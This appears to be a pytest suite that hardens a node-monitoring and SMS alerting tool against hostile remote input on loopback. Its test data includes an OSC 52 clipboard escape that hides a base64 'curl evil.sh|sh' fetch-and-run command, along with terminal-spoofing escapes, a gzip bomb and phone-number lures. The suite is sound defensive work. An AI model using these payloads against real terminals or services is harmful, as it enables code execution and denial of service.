"""Hostile or broken remote input cannot starve, crash or flood a run, or the phones.

Each test points whole `check-status` processes at a hostile server of its own
on loopback (tests/hostile.py) and the Twilio stand-in reached by the real
twilio client, then asserts the exit code, the texts that reached the
stand-in, and that no output holds a traceback or a raw control character.
How long each run took is the benchmark's business, not these tests'.
"""

from __future__ import annotations

import json
import os
import re
import resource
import subprocess
import sys
from contextlib import ExitStack
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.hostile import (
    HostileServer,
    answer,
    continue_flood,
    drip,
    get_info_with,
    gzip_bomb,
    header_flood,
    nodeos_error,
)
from tests.standins import HeartbeatStandIn, NodeosStandIn, TwilioStandIn

SID = "AC" + "0123456789abcdef" * 2
TOKEN = "f00dfeedf00dfeedf00dfeedf00dfeed"
LUKE = "+14155550101"
SMS_KEYS = {
    "TWILIO_ACCOUNT_SID": SID,
    "TWILIO_AUTH_TOKEN": TOKEN,
    "TWILIO_FROM": "+15005550006",
    "ALERT_TO": LUKE,
    "ALERT_AFTER": "1",
}
# Anything a terminal would act on: C0 (but the newlines between lines), DEL, C1, ESC.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")
SCRIPT = str(Path(sys.executable).with_name("check-status"))


def run(env_file: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """One whole process, as cron starts it, with only the env file's settings."""
    env = {"PATH": os.environ["PATH"], "LANG": "C.UTF-8", "HOME": str(env_file.parent)}
    return subprocess.run(
        [SCRIPT, *args, "--env-file", str(env_file)],
        env=env,
        capture_output=True,
        text=True,
        errors="surrogateescape",
        timeout=120,
    )


def assert_clean(done: subprocess.CompletedProcess[str]) -> None:
    """No traceback, and nothing a terminal would act on, in anything it printed."""
    for stream in (done.stdout, done.stderr):
        assert "Traceback" not in stream, stream
        assert not RAW_CONTROL.search(stream), repr(stream)
        assert not re.search("[\ud800-\udfff]", stream), repr(stream)


@pytest.fixture
def twilio() -> TwilioStandIn:
    with TwilioStandIn(auth_token=TOKEN) as standin:
        yield standin


@pytest.fixture
def nodeos_ok() -> NodeosStandIn:
    with NodeosStandIn() as standin:
        yield standin


def test_fifteen_flooding_requests_cannot_stop_the_sms(write_env, twilio, nodeos_ok):
    """5 endpoints x 3 requests, each flooding `100 Continue`: before, the threads the
    run gave up on kept the GIL and Twilio was "no answer in time", every run."""
    with ExitStack() as stack:
        floods = [stack.enter_context(HostileServer(continue_flood)) for _ in range(5)]
        env_file = write_env(
            NODEOS_URL=nodeos_ok.url,
            ENDPOINTS=",".join(f.url for f in floods),
            ENDPOINT_REQUESTS=3,
            HTTP_TIMEOUT_SECONDS=2,
            TWILIO_API_BASE_URL=twilio.url,
            **SMS_KEYS,
        )
        done = run(env_file)
        connections = sum(f.connections for f in floods)
    assert done.returncode == 2, done.stdout
    assert connections == 15
    assert "endpoint:127.0.0.1" in done.stdout and "timeout after 2s" in done.stdout
    assert [m["to"] for m in twilio.messages] == [LUKE]
    assert "CRITICAL endpoint" in twilio.messages[0]["body"]
    assert_clean(done)


@pytest.mark.parametrize(
    ("behaviour", "reason"),
    [
        (drip(b"HTTP/1.1 200 OK\r\n", every=0.5), "timeout after 2s"),
        (continue_flood, "timeout after 2s"),
        (header_flood, "not an HTTP answer"),
        (drip(b"HTTP/1.1 200 OK\r\nContent-Length: 9000\r\n\r\n" + b"{" * 100, 0.01), "timeout"),
    ],
    ids=["drip-status-line", "100-continue-flood", "endless-headers", "drip-body"],
)
def test_a_misbehaving_nodeos_is_named_and_texted(write_env, twilio, behaviour, reason):
    with HostileServer(behaviour) as hostile:
        env_file = write_env(
            NODEOS_URL=hostile.url,
            HTTP_TIMEOUT_SECONDS=2,
            TWILIO_API_BASE_URL=twilio.url,
            **SMS_KEYS,
        )
        done = run(env_file)
    assert done.returncode == 2, done.stdout
    assert done.stdout.startswith("CHECK-STATUS CRITICAL - nodeos: "), done.stdout
    assert reason in done.stdout.splitlines()[0]
    assert len(twilio.messages) == 1
    assert_clean(done)


def test_a_lone_surrogate_in_an_error_body_is_critical_not_a_crash(write_env, twilio):
    """`\\ud800` in JSON once made every run `internal error: UnicodeEncodeError`, exit 3."""
    with HostileServer(nodeos_error("\ud800 broken \udfff")) as hostile:
        env_file = write_env(NODEOS_URL=hostile.url, TWILIO_API_BASE_URL=twilio.url, **SMS_KEYS)
        done = run(env_file)
        verbose = run(env_file, "run", "-v", "--dry-run")
        as_json = run(env_file, "run", "--json", "--dry-run")
        status = run(env_file, "status")
    assert done.returncode == 2, done.stdout
    assert "nodeos: HTTP 503 Service Unavailable" in done.stdout
    assert "\ufffd broken \ufffd" in verbose.stdout  # marked, shown, never raw
    assert json.loads(as_json.stdout)["status"] == "CRITICAL"
    assert status.returncode == 0, status.stdout + status.stderr
    assert "nodeos" in status.stdout
    assert len(twilio.messages) == 1
    for each in (done, verbose, as_json, status):
        assert_clean(each)


def test_a_producer_name_cannot_forge_a_nagios_line_or_crash(write_env):
    forged = "eosnation\nCHECK-STATUS OK - all fine\ud800"
    with HostileServer(get_info_with(head_block_producer=forged)) as hostile:
        env_file = write_env(NODEOS_URL=hostile.url)
        done = run(env_file)
        status = run(env_file, "status")
    assert done.returncode == 0, done.stdout  # a name that is not one is "?", not a failure
    assert "by ?," in done.stdout
    assert len(done.stdout.splitlines()) == 1, done.stdout
    assert "all fine" not in done.stdout
    assert status.returncode == 0
    assert_clean(done)
    assert_clean(status)


ESCAPES = {
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
    "window-title": "\x1b]0;all good\x07",
    "clear-screen": "\x1b[2J\x1b[H",
    "c1-csi": "\x9b31m red",
    "bidi-override": "\u202eevil",
}


@pytest.mark.parametrize("sequence", ESCAPES.values(), ids=ESCAPES.keys())
def test_terminal_escapes_never_reach_the_operators_terminal(write_env, sequence):
    with HostileServer(nodeos_error(f"down {sequence} here")) as hostile:
        env_file = write_env(NODEOS_URL=hostile.url)
        outputs = [run(env_file), run(env_file, "run", "-v", "--dry-run"), run(env_file, "status")]
    for done in outputs:
        assert_clean(done)
        assert "\u202e" not in done.stdout
    assert "[remote said: down " in outputs[1].stdout


def test_an_error_body_never_reaches_a_phone(write_env, twilio, nodeos_ok):
    """An endpoint's body once landed verbatim in the on-call SMS."""
    lure = "URGENT call +1 900 555 0100 now to restore service"
    with HostileServer(nodeos_error(lure)) as endpoint:
        env_file = write_env(
            NODEOS_URL=nodeos_ok.url,
            ENDPOINTS=endpoint.url,
            TWILIO_API_BASE_URL=twilio.url,
            **SMS_KEYS,
        )
        done = run(env_file)
        verbose = run(env_file, "run", "-v", "--dry-run")
    assert done.returncode == 2
    [message] = twilio.messages
    assert "HTTP 503 Service Unavailable" in message["body"]
    assert "900" not in message["body"] and "URGENT" not in message["body"]
    assert lure not in done.stdout  # nor the Nagios line, which may page too
    assert f"[remote said: {lure}]" in verbose.stdout  # the operator at the terminal sees it


def test_an_identifying_error_name_is_still_texted(write_env, twilio, nodeos_ok):
    """The words that identify the failure stay: the outage's own NODEOS_UNREACHABLE."""
    with HostileServer(nodeos_error("NODEOS_UNREACHABLE")) as endpoint:
        env_file = write_env(
            NODEOS_URL=nodeos_ok.url,
            ENDPOINTS=endpoint.url,
            TWILIO_API_BASE_URL=twilio.url,
            **SMS_KEYS,
        )
        run(env_file)
    [message] = twilio.messages
    assert "HTTP 503 NODEOS_UNREACHABLE" in message["body"]


def children_peak_rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024


def test_a_gzip_bomb_from_twilio_cannot_grow_the_run(write_env, nodeos):
    """A 1 MiB gzip of 1 GiB once took the cron process to 2.1 GiB RSS."""
    nodeos.mode = "patroneos"
    with HostileServer(gzip_bomb(1024 * 1024 * 1024)) as bomb:
        env_file = write_env(NODEOS_URL=nodeos.url, TWILIO_API_BASE_URL=bomb.url, **SMS_KEYS)
        done = run(env_file)
        status = run(env_file, "status", "--json")
    assert done.returncode == 2
    # Measured in a child of its own, so earlier tests' children do not count.
    assert peak_rss_of(env_file) < 200, "the bomb was inflated"
    # A 201 answer was accepted: counted as sent (texting again would double it).
    view = json.loads(status.stdout)
    assert "Traceback" not in done.stdout + done.stderr
    assert not view["pending_sms"], view  # not queued for a second text


def peak_rss_of(env_file: Path) -> float:
    """Peak RSS, in MiB, of one more run with the same settings, measured alone."""
    probe = subprocess.run(
        [
            sys.executable,
            "-c",
            "import resource, subprocess, sys;"
            "subprocess.run(sys.argv[1:], capture_output=True);"
            "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)",
            SCRIPT,
            "run",
            "--env-file",
            str(env_file),
        ],
        env={"PATH": os.environ["PATH"], "HOME": str(env_file.parent)},
        capture_output=True,
        text=True,
        check=True,
    )
    return int(probe.stdout) / 1024


def test_a_huge_heartbeat_answer_is_not_read(write_env, nodeos):
    """Only the status of a ping matters: a 64 MiB answer is cut, not kept."""
    body = b"x" * (64 * 1024 * 1024)
    with HostileServer(answer(body, content_type="text/plain")) as heartbeat:
        env_file = write_env(NODEOS_URL=nodeos.url, HEARTBEAT_URL=heartbeat.url + "/ping/abc")
        done = run(env_file)
        assert done.returncode in (0, 1), done.stdout
        assert peak_rss_of(env_file) < 120
    assert "heartbeat to" not in done.stdout  # a 200 is a good ping, however long its body
    assert_clean(done)


def test_everything_hung_still_ends_with_one_line(write_env):
    """nodeos, an endpoint, Twilio and the heartbeat all accept and never answer."""
    with ExitStack() as stack:
        hung = [stack.enter_context(HostileServer(drip(b"", 1))) for _ in range(4)]
        env_file = write_env(
            NODEOS_URL=hung[0].url,
            ENDPOINTS=hung[1].url,
            TWILIO_API_BASE_URL=hung[2].url,
            HEARTBEAT_URL=hung[3].url + "/ping/abc",
            HTTP_TIMEOUT_SECONDS=2,
            **SMS_KEYS,
        )
        done = run(env_file)
        again = run(env_file, "status", "--json")
    assert done.returncode == 2, done.stdout
    assert done.stdout.startswith("CHECK-STATUS CRITICAL - nodeos: timeout after 2s")
    assert len(done.stdout.splitlines()) == 1
    # The text that Twilio never answered is still queued, for the next run.
    view = json.loads(again.stdout)
    # One queued item per incident (nodeos, the endpoint), to go out as one text.
    assert view["pending_sms"][LUKE]["queued"] == 2, view
    assert_clean(done)


def test_a_hung_heartbeat_does_not_stop_the_sms(write_env, twilio, nodeos):
    nodeos.mode = "patroneos"
    with HostileServer(continue_flood) as heartbeat:
        env_file = write_env(
            NODEOS_URL=nodeos.url,
            TWILIO_API_BASE_URL=twilio.url,
            HEARTBEAT_URL=heartbeat.url + "/ping/abc",
            **SMS_KEYS,
        )
        done = run(env_file)
    assert done.returncode == 2
    assert len(twilio.messages) == 1
    assert_clean(done)


def test_heartbeat_stand_in_still_gets_the_ping(write_env, nodeos):
    """The bounded transport still talks plain HTTP to a well-behaved service."""
    with HeartbeatStandIn() as heartbeat:
        env_file = write_env(NODEOS_URL=nodeos.url, HEARTBEAT_URL=heartbeat.url + "/ping/abc")
        done = run(env_file)
        pings = heartbeat.pings
    assert done.returncode == 0, done.stdout
    assert len(pings) == 1


@pytest.fixture
def hung_dns(tmp_path: Path):
    """A resolver that never answers: a UDP socket on 127.0.0.77:53 that reads nothing,
    named in a resolv.conf bind-mounted over /etc/resolv.conf in a mount namespace
    of the run's own (`unshare -m`), so the rest of the machine is untouched."""
    import shutil
    import socket

    if os.geteuid() != 0 or not shutil.which("unshare"):
        pytest.skip("a private mount namespace and port 53 need root")
    resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    resolver.bind(("127.0.0.77", 53))
    conf = tmp_path / "resolv.conf"
    conf.write_text("nameserver 127.0.0.77\noptions timeout:30 attempts:1\n")
    try:
        yield conf
    finally:
        resolver.close()


def test_a_dns_lookup_that_never_answers_is_a_timeout(write_env, twilio, hung_dns):
    env_file = write_env(
        NODEOS_URL="http://nodeos.hang.example:8888",
        HTTP_TIMEOUT_SECONDS=2,
        TWILIO_API_BASE_URL=twilio.url,
        **SMS_KEYS,
    )
    done = subprocess.run(
        [
            "unshare",
            "-m",
            "sh",
            "-c",
            f'mount --bind "{hung_dns}" /etc/resolv.conf && exec "$@"',
            "sh",
            SCRIPT,
            "--env-file",
            str(env_file),
        ],
        env={"PATH": os.environ["PATH"], "HOME": str(env_file.parent)},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2, done.stdout + done.stderr
    assert "nodeos: timeout after 2s (DNS lookup) (nodeos.hang.example:8888)" in done.stdout
    assert len(twilio.messages) == 1  # Twilio is on loopback: no lookup needed
    assert_clean(done)


def test_a_peers_status_is_neither_stored_whole_nor_repeated(write_env, nodeos, state_file):
    """A peer's status string was once stored whole in the state, every minute."""
    now = datetime.now(UTC)
    at = now.strftime("%Y-%m-%dT%H:%M:%SZ")
    document = {
        "time": at,
        "last_run": {"at": at, "status": "OK \x1b[2J" + "A" * 500_000},
        "last_scheduled_run": {"at": at},
        "checks": {"x" * 100_000: {"summary": "\ud800" * 10_000}},
    }
    body = json.dumps(document).encode()
    with HostileServer(answer(body)) as peer:
        env_file = write_env(NODEOS_URL=nodeos.url, PEERS=f"eu1={peer.url}")
        done = run(env_file)
        verbose = run(env_file, "run", "-v", "--dry-run")
    assert done.returncode == 0, done.stdout
    assert "peer:eu1: " not in done.stdout  # healthy: not a problem
    assert "checker ran 0s ago (?)" in verbose.stdout  # its words are not repeated
    assert state_file.stat().st_size < 16 * 1024
    assert "AAAA" not in state_file.read_text()
    assert_clean(done)
    assert_clean(verbose)


def twilio_answer(status: str, head: str, body: bytes, *, then: float = 0.0):
    """A Twilio-like answer: this status line and headers, this body, then (optionally)
    a wait before closing. `head` is the header block without Content-Length."""

    def behaviour(conn, stop) -> None:
        conn.sendall(f"HTTP/1.1 {status}\r\n{head}\r\n".encode() + body)
        stop.wait(then)

    return behaviour


ACCEPTED_BUT_UNREADABLE = {
    # Content-Length promises more than comes: the connection closes mid-body.
    "cut-short": twilio_answer(
        "201 Created", "Content-Type: application/json\r\nContent-Length: 5000\r\n", b'{"sid": "SM'
    ),
    # gzip said, not sent.
    "bad-gzip": twilio_answer(
        "201 Created",
        "Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: 12\r\n",
        b"not gzip at all"[:12],
        then=1,
    ),
    # The body drips past the timeout.
    "dripping-body": lambda conn, stop: (
        conn.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 400\r\n\r\n"),
        drip(b"{" * 400, every=0.1)(conn, stop),
    ),
    # A message id that is not one: 1,000 characters and an escape.
    "huge-sid": answer(
        json.dumps({"sid": "\x1b]52;c;x\x07" + "A" * 1000, "status": "queued"}).encode(),
        "201 Created",
    ),
}


@pytest.mark.parametrize(
    "behaviour", ACCEPTED_BUT_UNREADABLE.values(), ids=ACCEPTED_BUT_UNREADABLE.keys()
)
def test_a_twilio_acceptance_whose_body_cannot_be_read_is_still_sent(write_env, nodeos, behaviour):
    """A 201 is an acceptance however its body ends: counting it as unsent would
    text the operator again next run."""
    nodeos.mode = "patroneos"
    with HostileServer(behaviour) as twilio:
        env_file = write_env(NODEOS_URL=nodeos.url, TWILIO_API_BASE_URL=twilio.url, **SMS_KEYS)
        done = run(env_file, "run", "-v")
        again = run(env_file, "run", "-v")
        sends = [line for line in twilio.request_lines if line.startswith("POST ")]
    assert done.returncode == 2
    assert "SMS sent to 1 of 1" in done.stdout, done.stdout
    assert len(sends) == 1, again.stdout  # the second run sent nothing: no second text
    # It read the replies (the incident waits for an ACK), and says it could not.
    assert "note: SMS replies not read (Twilio HTTP 20" in again.stdout, again.stdout
    assert "AAAA" not in done.stdout  # a message id that is not one is not kept
    assert_clean(done)


def test_a_value_in_a_bad_get_info_never_reaches_a_phone(write_env, twilio, nodeos_ok):
    lure = get_info_with(head_block_num="CALL +1 900 555 0199 NOW")
    with HostileServer(lure) as endpoint:
        env_file = write_env(
            NODEOS_URL=nodeos_ok.url,
            ENDPOINTS=endpoint.url,
            TWILIO_API_BASE_URL=twilio.url,
            **SMS_KEYS,
        )
        done = run(env_file)
    [message] = twilio.messages
    assert "bad get_info: head_block_num is not a number" in message["body"]
    assert "900" not in message["body"] and "900" not in done.stdout


def test_a_host_name_the_resolver_cannot_take_is_named_without_a_traceback(write_env):
    env_file = write_env(NODEOS_URL="http://node..example.com:8888", HTTP_TIMEOUT_SECONDS=2)
    done = run(env_file)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "nodeos: bad host name (node..example.com:8888)" in done.stdout
    assert done.stderr == ""
    assert_clean(done)


def test_an_interim_answer_before_nothing_is_not_a_good_ping(write_env, nodeos):
    """`103 Early Hints` and then a close: http.client returns the 103; it is no 2xx."""
    early = twilio_answer("103 Early Hints", "Link: </x>; rel=preload\r\n", b"")
    with HostileServer(early) as heartbeat:
        env_file = write_env(NODEOS_URL=nodeos.url, HEARTBEAT_URL=heartbeat.url + "/ping/abc")
        done = run(env_file, "run", "-v")
    assert "heartbeat to 127.0.0.1" in done.stdout and "failed: HTTP 103" in done.stdout
